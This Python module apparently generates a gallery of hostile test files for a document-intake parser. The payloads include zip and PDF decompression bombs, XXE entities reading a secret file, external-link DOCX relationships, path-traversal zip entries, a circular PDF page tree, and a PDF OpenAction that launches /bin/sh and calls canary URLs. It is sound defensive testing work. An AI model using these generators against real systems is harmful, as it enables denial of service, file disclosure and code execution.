"""Make the files of the hostile gallery that cannot be written down as text."""

from __future__ import annotations

import gzip
import io
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any

from intake.documents import docx, paragraph

_BOMB = 1 << 28
"""What bombs unpack to, in octets: more than any limit."""
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def content(case: Mapping[str, Any], canary: str, secret: str) -> bytes:
    """Return the bytes of a case of the gallery."""
    if "made" in case:
        return MADE[case["made"]](canary, secret)
    if "gzip" in case:
        return _zeros_packed(case["gzip"])
    if "gzip_cut" in case:
        return gzip.compress(case["gzip_cut"].encode())[:-6]
    if "repeat" in case:
        before, middle, after, count = case["repeat"]
        head, tail = case.get("within", ("", ""))
        if not before and not after:
            return f"{head}{middle * count}{tail}".encode()
        return f"{head}{before * count}{middle}{after * count}{tail}".encode()
    given: str = case["given"].replace("{canary}", canary).replace("{secret}", secret)
    return given.encode("utf-8", "surrogateescape")


def _zeros_packed(size: int) -> bytes:
    packer = zlib.compressobj(1, wbits=31)
    block = bytes(1 << 20)
    return b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()


def _with(archive: bytes, **parts: bytes | str) -> bytes:
    """Return a .docx with further parts; ``__`` in a name is a slash, ``_d_`` a dot."""
    file = io.BytesIO(archive)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as opened:
        for name, data in parts.items():
            opened.writestr(name.replace("__", "/").replace("_d_", "."), data)
    return file.getvalue()


def _docx_with_entities(canary: str, secret: str) -> bytes:
    declared = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY y SYSTEM "{canary}y">]>'
    return docx(paragraph("&x;&y;"), doctype=declared)


def _docx_linked(canary: str, secret: str) -> bytes:
    targets = ((f"{canary}t.dotx", "attachedTemplate"), (f"file://{secret}", "image"), (f"{canary}o", "oleObject"))
    relations = "".join(
        f'<Relationship Id="x{at}" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        for at, (target, kind) in enumerate(targets)
    )
    field = f'<w:p><w:r><w:instrText>INCLUDETEXT "{secret}"</w:instrText></w:r></w:p>'
    made = docx(paragraph("The Council decides to adopt the report.") + field)
    settings = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    return _with(made, word___rels__settings_d_xml_d_rels=f"{settings}{relations}</Relationships>")


def _docx_bomb(canary: str, secret: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx(paragraph("x")))) as made:
        parts = {name: made.read(name) for name in made.namelist()}
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            if name != "word/document.xml":
                archive.writestr(name, data)
                continue
            with archive.open(name, "w", force_zip64=True) as out:
                for _ in range(_BOMB >> 20):
                    out.write(b" " * (1 << 20))
    return file.getvalue()


def _docx_deep(canary: str, secret: str) -> bytes:
    deep = 20_000
    return docx("<w:tbl><w:tr><w:tc>" * deep + paragraph("x") + "</w:tc></w:tr></w:tbl>" * deep)


def _docx_climbing(canary: str, secret: str) -> bytes:
    made = docx(paragraph("The Council decides to adopt the report."))
    return _with(made, **{"../../../../../../tmp/wpkg-climbed": b"climbed", "/tmp/wpkg-climbed": b"climbed"})


def _pdf_of(objects: list[bytes]) -> bytes:
    """Return a PDF file with these objects, numbered from 1; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, data in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, data)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))


_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"


def _pdf_bomb(canary: str, secret: str) -> bytes:
    packer = zlib.compressobj(1)
    block = b" " * (1 << 20)
    packed = b"".join(packer.compress(block) for _ in range(_BOMB >> 20)) + packer.flush()
    twice = zlib.compress(packed)
    stream = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%b\nendstream" % (len(twice), twice)
    return _pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES, _PAGE, stream, _FONT])


def _pdf_circle(canary: str, secret: str) -> bytes:
    pages = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 100000 /Parent 3 0 R >>"
    return _pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", pages, pages.replace(b"/Parent 3", b"/Parent 2")])


def _pdf_launching(canary: str, secret: str) -> bytes:
    script = f"<< /S /JavaScript /JS (app.launchURL('{canary}j')) >>"
    act = f"<< /S /Launch /F (/bin/sh) /Next << /S /URI /URI ({canary}u) /Next {script} >> >>"
    remote = f"/AA << /O << /S /GoToR /F << /FS /URL /F ({canary}f) >> /D [0 /Fit] >> >>"
    page = _PAGE[:-2] + remote.encode() + b" >>"
    words = b"BT /F 12 Tf 72 700 Td (The Council decides to adopt the report.) Tj ET"
    stream = b"<< /Length %d >>\nstream\n%b\nendstream" % (len(words), words)
    return _pdf_of(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + act.encode() + b" >>", _PAGES, page, stream, _FONT]
    )


def _pdf_deep(canary: str, secret: str) -> bytes:
    deep = 200_000
    return _pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"[" * deep + b"]" * deep])


MADE: Mapping[str, Callable[[str, str], bytes]] = {
    "docx_with_entities": _docx_with_entities,
    "docx_linked": _docx_linked,
    "docx_bomb": _docx_bomb,
    "docx_deep": _docx_deep,
    "docx_climbing": _docx_climbing,
    "pdf_bomb": _pdf_bomb,
    "pdf_circle": _pdf_circle,
    "pdf_launching": _pdf_launching,
    "pdf_deep": _pdf_deep,
}
